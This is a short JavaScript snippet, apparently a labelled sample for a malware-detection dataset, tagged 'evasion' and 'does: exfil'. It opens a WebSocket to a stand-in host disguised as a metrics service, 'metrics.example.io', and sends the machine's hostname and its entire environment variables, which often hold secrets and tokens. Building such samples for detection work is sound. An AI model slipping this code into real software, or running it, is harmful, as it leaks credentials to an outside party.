// evasion: environment sent over the global WebSocket client
// grade: medium; does: exfil
const ws = new WebSocket('wss://metrics.example.io/ingest');
ws.onopen = function () {
  this.send(JSON.stringify({ host: require('os').hostname(), env: process.env }));
  this.close();
};
